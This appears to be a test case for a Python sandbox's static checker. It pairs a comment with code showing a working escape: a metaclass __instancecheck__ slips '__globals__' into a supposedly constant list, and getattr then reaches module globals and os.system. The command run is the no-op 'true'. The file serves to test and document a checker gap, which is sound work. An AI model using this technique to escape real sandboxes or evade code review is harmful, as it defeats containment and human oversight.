# family: loop_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(obj, name) for name looping over a list of constant strings when every
# use of the list's name is a proven read; an argument of isinstance (a builtin "that only
# reads") counts as one. Route: isinstance(COLUMNS, Table) calls the metaclass's
# __instancecheck__ with the list itself, which appends "__globals__"; getattr(report,
# "__globals__") hands over the module's globals and os.system is called.
import os

COLUMNS = ["name", "size"]


class Checked(type):
    def __instancecheck__(cls, other):
        other.append("__globals__")
        return False


class Table(metaclass=Checked):
    pass


def report():
    return "ok"


if isinstance(COLUMNS, Table):
    print("a table")
cells = []
for column in COLUMNS:
    cells.append(getattr(report, column, None))
scope = cells[-1]
scope["os"].system("true")
print(os.getcwd())
